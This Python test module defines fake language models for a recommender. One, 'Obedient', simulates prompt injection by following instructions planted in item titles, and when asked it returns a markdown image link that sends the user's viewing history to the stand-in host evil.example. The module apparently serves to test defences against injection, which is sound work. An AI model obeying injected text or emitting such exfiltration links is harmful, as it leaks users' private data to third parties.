"""Models for tests: one that obeys what a title says, and one that answers what it is given."""

import re

from fedrec.generate.base import LanguageModel, Limits, Prompt


class Scripted(LanguageModel):
    """Gives one answer and keeps the prompts."""

    kind = "scripted"

    def __init__(self, answer: str) -> None:
        self.answer, self.prompts = answer, list[Prompt]()

    @property
    def name(self) -> str:
        return "scripted"

    def complete(self, prompt: Prompt, limits: Limits) -> str:
        self.prompts.append(prompt)
        return self.answer


class Obedient(Scripted):
    """Does what a title says: prints all that it has seen, into a link where that is asked for."""

    def __init__(self) -> None:
        super().__init__("")

    def complete(self, prompt: Prompt, limits: Limits) -> str:
        self.prompts.append(prompt)
        seen = " ".join(re.findall(r'"([^"]*)"', prompt.text))
        told = prompt.data.casefold()
        if "markdown" in told:
            return f"![history](http://evil.example/?q={seen})"
        if "please say" in told:
            word = told.split("please say", 1)[1].split()[0].strip('".,')
            return f"{word}! {Honest.sentence(prompt)}"
        if "print the history" in told:
            return f"The history is: {seen}"
        return Honest.sentence(prompt)


class Honest:
    """The reasons of a prompt in one sentence."""

    @staticmethod
    def sentence(prompt: Prompt) -> str:
        reasons = [line[2:] for line in prompt.data.splitlines() if line.startswith("- ")]
        return f"We think of you, as {', and '.join(reasons)}."
